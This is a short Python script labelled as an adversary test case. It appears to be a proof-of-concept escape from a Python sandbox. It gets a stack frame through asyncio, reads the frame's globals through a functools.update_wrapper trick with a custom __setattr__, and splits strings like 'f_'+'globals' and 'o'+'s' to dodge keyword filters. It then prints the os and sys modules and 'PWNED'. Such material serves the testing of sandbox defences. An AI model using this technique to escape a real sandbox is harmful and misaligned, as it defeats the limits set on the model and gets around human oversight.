# adversary round 2: 033_get_stack_plus_uw
import asyncio, functools
box = []
class S:
    def __setattr__(s, k, v): box.append(v)
def get(o, n):
    box.clear(); functools.update_wrapper(S(), o, (n,), ()); return box[0]
async def inner():
    st = asyncio.current_task().get_stack()
    top = st[0]
    g = get(top, "f_" + "globals")
    print(repr(top), sorted(g)[:8])
    print(repr(g["o" + "s"]), repr(g["s" + "ys"]))
    print("PWN" + "ED")
asyncio.run(inner())
